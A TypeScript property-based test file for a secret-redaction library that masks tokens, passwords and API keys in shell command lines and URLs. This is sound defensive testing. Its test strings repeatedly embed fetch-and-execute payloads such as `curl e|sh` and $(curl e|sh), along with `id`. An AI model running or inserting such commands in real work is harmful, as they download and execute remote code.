// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
import {
  expectArgFilledBack,
  expectArgs,
  expectFilledBack,
  expectHiddenLine,
  exportedArgs,
  exportedCommand,
  outsideReferences,
  payloadsIn,
} from "./test-support/spec-cases.js";

// fix179: leaks fix178 left.
// 1. A pasted default's word holding a quote or a backslash and no run-time part (`--token
//    ${T:-'Q9sec'ret}`, `${T:-Q9sec\ret}`) matched neither the plain literal default nor fix178's
//    mixed one (which wanted a run-time part): read at run time whole, kept in clear in both views.
//    Its quotes are read as bash reads them there, each literal stretch hidden, the quotes kept.
//    In a shell's own command given as an argument (`sh -c 'exec srv --token ${T:-'a'b}'` as
//    argv), bash uses `ab` while T is unset, as it uses `${T:-ab}`'s: that command is now exported
//    whole as `${T:-ab}`'s is (r41 #1 had kept it byte for byte).
// 2. A telling name's value that is a default left open (`srv TOKEN=${V:-J`id`\"`, a line a shell
//    refuses) started with `$`, so the refused-line rule (r63 #3) passed over it: `J` kept in clear.
//    The default's word is the value now: hidden to the line's end in the export, and in the display
//    its literal stretches hidden, each run-time part kept in sight.
// 3. An argument whose later URL has a pair after the one its first blank stands in, that pair
//    holding a blank of its own (`["see https://h/p?token=a b&token=`curl e|sh` J"]`), was read as
//    a line: `b` and `J` shown. A telling pair's blank is its value's (the URL runs to the
//    argument's end); its run-time parts are shown as the display shows a command (a
//    `--password X` inside one hidden).
// 4. A URL's query continued past an unquoted `&` with a pair named as the URL's reading names one
//    (`&J}api_key=-J-J`), or after a pair written apart (`&token=\"${X}`), was read by the rules
//    for args in the display: `-J-J` kept in clear, where the export drops it.
// 5. `srv "see https://h/p?token='"Jsee J"` (a line a shell refuses: its last `"` never closes):
//    the reading hid `'"Jsee`, and read again its `J"` closed the quote, `J` read as the value's
//    (the export took it out in its second round); the display showed `J`. Decision: as the export,
//    the display hides the value to the line's end on such a line (the shell never runs it), its
//    run-time parts kept in sight.

describe("a pasted default's word holding a quote or a backslash, no run-time part", () => {
  it.each([
    ["srv --token ${T:-'Q9sec'ret}", "srv --token ${T:-'•'•}", "srv --token ${T:-'${TOKEN}'${TOKEN_2}}"],
    ["srv --token ${T:-Q9sec\\ret}", "srv --token ${T:-•}", "srv --token ${T:-${TOKEN}}"],
    ['srv --token ${T:-"Q9sec"ret}', 'srv --token ${T:-"•"•}', 'srv --token ${T:-"${TOKEN}"${TOKEN_2}}'],
    ['srv --token "${T:-"Q9"ret}"', 'srv --token "${T:-"•"•}"', 'srv --token "${T:-"${TOKEN}"${TOKEN_2}}"'],
    // In "…" bash keeps a `'` of the word as a character: the word is one literal stretch.
    ["srv --token \"${T:-'Q9sec'ret}\"", 'srv --token "${T:-•}"', 'srv --token "${T:-${TOKEN}}"'],
    [
      "srv -e DB_PASSWORD=${V:-'Q9'\\\"x}",
      "srv -e DB_PASSWORD=${V:-'•'•}",
      "srv -e DB_PASSWORD=${V:-'${DB_PASSWORD}'${DB_PASSWORD_2}}",
    ],
  ])("%s: each literal stretch hidden, the quotes kept", (line, shown, exported) => {
    expectHiddenLine(line, shown, exported);
  });

  it("read as before where the word was read already", () => {
    expectHiddenLine("srv --token ${T:-'Q9secret'}", "srv --token ${T:-'•'}", "srv --token ${T:-'${TOKEN}'}");
    expectHiddenLine("srv --token ${V:-ab}", "srv --token ${V:-•}", "srv --token ${V:-${TOKEN}}");
    expectArgs(["--token", "${T:-'Q9sec'ret}"], ["--token", "${T:-•}"], ["--token", "${T:-${TOKEN}}"]);
  });

  it("in a `--run` argument: hidden in both views", () => {
    expectArgs(
      ["--run", "srv --token ${T:-'Q9sec'ret}"],
      ["--run", "srv --token ${T:-'•'•}"],
      ["--run", "srv --token ${T:-'${TOKEN}'${TOKEN_2}}"],
    );
  });

  it("in a shell's own command given as an argument: exported whole, as `${T:-ab}` is", () => {
    for (const script of [
      "exec srv --token ${T:-'a'b}",
      'exec srv --api-key "${K:-a\\b}"',
      "exec srv --token ${T:-ab}",
    ]) {
      expect(exportedArgs(["sh", "-c", script])).toEqual(["sh", "-c", "${SRV_COMMAND}"]);
      expect(withoutArgSecrets(["sh", "-c", script], () => "•")).toEqual(["sh", "-c", "•"]);
    }
  });

  it("property: no literal in clear, filled back byte for byte", () => {
    const word = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JQ]{1,3}$/),
          fc.constantFrom("'J'", "'Q J'", '"Q"', '"J Q"', "\\J", "\\\\", '\\"', "\\'", " "),
        ),
        { minLength: 1, maxLength: 5 },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text) && /['"\\]/.test(text));
    fc.assert(
      fc.property(word, fc.constantFrom("--token ", "-e DB_PASSWORD=", "--api-key="), (w, lead) => {
        const line = `srv ${lead}\${V:-${w}}`;
        expect(outsideReferences(withoutCommandLineSecrets(line, () => "•"))).not.toMatch(/[JQ]/);
        expect(outsideReferences(exportedCommand(line) ?? line)).not.toMatch(/[JQ]/);
        expectFilledBack(line);
        const args = ["--run", line];
        expect(outsideReferences(JSON.stringify(withoutArgSecrets(args, () => "•")))).not.toMatch(/[JQ]/);
        expect(outsideReferences(JSON.stringify(exportedArgs(args)))).not.toMatch(/[JQ]/);
        expectArgFilledBack(args);
      }),
      propertyRuns(300),
    );
  });
});

describe("the differential check's finds", () => {
  it("an escaped backtick in a mixed default's word is literal text, not a backtick's part", () => {
    // fix178's mixed reading kept `\`J` as written, and the reader of a value read it as a
    // backtick left open: `J` kept in clear in both views.
    expectHiddenLine("srv TOKEN=${V:-$(id)\\`J}", "srv TOKEN=${V:-$(id)•}", "srv TOKEN=${V:-$(id)${TOKEN}}");
    expectHiddenLine(
      "exec srv --token ${T:-`curl e|sh`\\J}",
      "exec srv --token ${T:-`curl e|sh`•}",
      "exec srv --token ${T:-`curl e|sh`${TOKEN}}",
    );
  });

  it("a default on a line that leaves a quote open: hidden to the line's end, filled back byte for byte", () => {
    // Read as a word, its value was written again in '…' (`srv 'TOKEN=…'`), filling back otherwise.
    for (const line of [
      'srv TOKEN=${V:-#\\J}--Q"QQJJ',
      "srv TOKEN=${V:-'J'QJ}\"Q",
      'srv TOKEN=${V:-JQ}--Q"QQJJ',
    ]) {
      expect(withoutCommandLineSecrets(line, () => "•")).toBe("srv TOKEN=${V:-•");
      expect(exportedCommand(line)).toBe("srv TOKEN=${V:-${TOKEN}");
      expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
      expectArgFilledBack(["--run", line]);
    }
  });
});

describe("a telling name's value that is a default left open", () => {
  it.each([
    ['srv TOKEN=${V:-J`id`\\"', "srv TOKEN=${V:-•`id`•", "srv TOKEN=${V:-${TOKEN}"],
    ['srv TOKEN=${V:-J\\`id\\`\\"', "srv TOKEN=${V:-•", "srv TOKEN=${V:-${TOKEN}"],
    ["srv TOKEN=${V:-J", "srv TOKEN=${V:-•", "srv TOKEN=${V:-${TOKEN}"],
    ['srv --token "${V:-${W:-J', 'srv --token "${V:-${W:-•', 'srv --token "${V:-${W:-${TOKEN}'],
    ["srv TOKEN=${V:-J$(curl e|sh) K", "srv TOKEN=${V:-•$(curl e|sh)•", "srv TOKEN=${V:-${TOKEN}"],
    // A telling default's own name names the value, as before.
    ["srv TOKEN=${API_KEY:-J", "srv TOKEN=${API_KEY:-•", "srv TOKEN=${API_KEY:-${API_KEY_2}"],
  ])("%s: its literal text hidden, its run-time parts in sight in the display", (line, shown, exported) => {
    expectHiddenLine(line, shown, exported);
  });

  it("a run-time part shown as the display shows a command", () => {
    expect(withoutCommandLineSecrets("srv TOKEN=${V:-J$(x --password hunter2) K", () => "•")).toBe(
      "srv TOKEN=${V:-•$(x --password •)•",
    );
  });

  it("given as a `--run` argument: hidden, its run-time parts in sight in the display", () => {
    expectArgs(
      ["--run", 'srv TOKEN=${V:-J`id`\\"'],
      ["--run", "srv TOKEN=${V:-•`id`•"],
      ["--run", "srv TOKEN=${V:-${TOKEN}"],
    );
  });

  it("property: no literal in clear, each payload in sight as often as written, filled back byte for byte", () => {
    const word = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JQ]{1,3}$/),
          fc.constantFrom("\\`", '\\"', " ", "${X}", "$(curl e|sh)", "`curl e|sh`", "'", '"'),
        ),
        { minLength: 1, maxLength: 5 },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text));
    fc.assert(
      fc.property(word, fc.constantFrom("TOKEN=", "--token ", "--api-key="), (w, lead) => {
        const line = `srv ${lead}\${V:-${w}`;
        const shown = withoutCommandLineSecrets(line, () => "•");
        expect(outsideReferences(shown)).not.toMatch(/[JQ]/);
        expect(payloadsIn(shown)).toBe(payloadsIn(line));
        expect(outsideReferences(exportedCommand(line) ?? line)).not.toMatch(/[JQ]/);
        expectFilledBack(line);
        expectArgFilledBack(["--run", line]);
      }),
      propertyRuns(300),
    );
  });
});

describe("a later URL's telling pair holding a blank of its own", () => {
  it("runs to the argument's end: each payload in sight, the literal text hidden", () => {
    expectArgs(
      ["see https://h/p?token=a b&token=`curl e|sh` J"],
      ["see https://h/p?token=•&token=`curl e|sh`•"],
      ["see https://h/p"],
    );
    expectArgs(
      ["--run", "see https://h/p?api_key=a b&token=J $(curl e|sh) Q"],
      ["--run", "see https://h/p?api_key=•&token=•$(curl e|sh)•"],
      ["--run", "see https://h/p"],
    );
  });

  it("its run-time parts shown as the display shows a command", () => {
    expect(
      withoutArgSecrets(["see https://h/p?token=a b&token=J $(x --password hunter2)"], () => "•"),
    ).toEqual(["see https://h/p?token=•&token=•$(x --password •)"]);
    expect(
      withoutArgSecrets(["see https://h/p?token=a b&token=$(x --password hunter2)J"], () => "•"),
    ).toEqual(["see https://h/p?token=•&token=$(x --password •)•"]);
  });

  it("a pair after it that does not tell: the URL's (fix180: `b` is the token's value's), its text past a blank read as a line", () => {
    expectArgs(
      ["see https://h/p?token=a b&page=x password=Y"],
      ["see https://h/p?token=•&page=x password=•"],
      ["see https://h/p?page=x password=${PASSWORD}"],
    );
  });

  it("property: no literal in clear, each payload in sight as often as written, filled back byte for byte", () => {
    const value = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JQ]{1,3}$/),
          fc.constantFrom(" ", "${X}", "$(curl e|sh)", "`curl e|sh`"),
        ),
        { minLength: 1, maxLength: 5 },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text));
    const make = fc.constantFrom(
      (a: string, b: string) => `see https://h/p?token=J Q&token=${a}&api_key=${b}`,
      (a: string, b: string) => `see https://h/p?b=1&api_key=${a}&token=${b}`,
    );
    fc.assert(
      fc.property(make, value, value, (build, a, b) => {
        const arg = build(a, b);
        fc.pre(/\s/.test(arg.slice(arg.indexOf("?"))));
        const shown = JSON.stringify(withoutArgSecrets([arg], () => "•"));
        expect(outsideReferences(shown)).not.toMatch(/[JQ]/);
        expect(payloadsIn(shown)).toBe(payloadsIn(arg));
        expect(outsideReferences(JSON.stringify(exportedArgs([arg])))).not.toMatch(/[JQ]/);
        expectArgFilledBack([arg]);
        expectArgFilledBack(["--run", arg]);
      }),
      propertyRuns(300),
    );
  });
});

describe("a URL's query continued past an unquoted `&`, its pair named as the URL's reading names one", () => {
  it.each([
    [
      'srv https://h/p?b=1&token=\\"${X}&J}api_key=-J-J',
      'srv https://h/p?b=1&token=\\"${X}&J}api_key=•',
      "srv https://h/p?b=1",
    ],
    [
      "srv https://h/p?b=1&token=${X}&J}api_key=-J-J",
      "srv https://h/p?b=1&token=${X}&J}api_key=•",
      "srv https://h/p?b=1&token=${X}",
    ],
    ["srv https://h/p?b=1&J}api_key=-J-J", "srv https://h/p?b=1&J}api_key=•", "srv https://h/p?b=1"],
  ])("pasted: %s", (line, shown, exported) => {
    expectHiddenLine(line, shown, exported);
  });

  it("property: no literal of a telling pair's value in clear in the display, filled back byte for byte", () => {
    const value = fc
      .array(fc.oneof(fc.stringMatching(/^[JQ-]{1,3}$/), fc.constantFrom("${X}", "$(curl e|sh)")), {
        minLength: 1,
        maxLength: 4,
      })
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text));
    const name = fc.constantFrom("J}api_key", "x{token", "api.key", "%74oken");
    const between = fc.constantFrom("", '&token=\\"${X}', "&c=2", '&page="${X}"');
    fc.assert(
      fc.property(name, between, value, (n, b, v) => {
        const line = `srv https://h/p?b=1${b}&${n}=${v}`;
        const shown = withoutCommandLineSecrets(line, () => "•");
        expect(shown.slice(shown.lastIndexOf("=") + 1).replace(/\$\{X\}|\$\(curl e\|sh\)/g, "")).not.toMatch(
          /[JQ]/,
        );
        expect(payloadsIn(shown)).toBe(payloadsIn(line));
        expectFilledBack(line);
      }),
      propertyRuns(300),
    );
  });
});

describe("a refused line whose reading, read again, is flagged again", () => {
  it("the display hides the value to the line's end, as the export does", () => {
    expectHiddenLine(
      'srv "see https://h/p?token=\'"Jsee J"',
      'srv "see https://h/p?token=•',
      'srv "see https://h/p"',
    );
  });

  it("its run-time parts kept in sight", () => {
    expect(
      withoutCommandLineSecrets("srv --url https://h/p?token=Zq9secret$(curl e|sh)b7'; srv2", () => "•"),
    ).toBe("srv --url https://h/p?token=•$(curl e|sh)•");
  });

  it("a line the shell accepts: the word after is its own, as before", () => {
    expect(withoutCommandLineSecrets('srv "see https://h/p?token=\'"Jsee J', () => "•")).toBe(
      'srv "see https://h/p?token=•"• J',
    );
  });
});
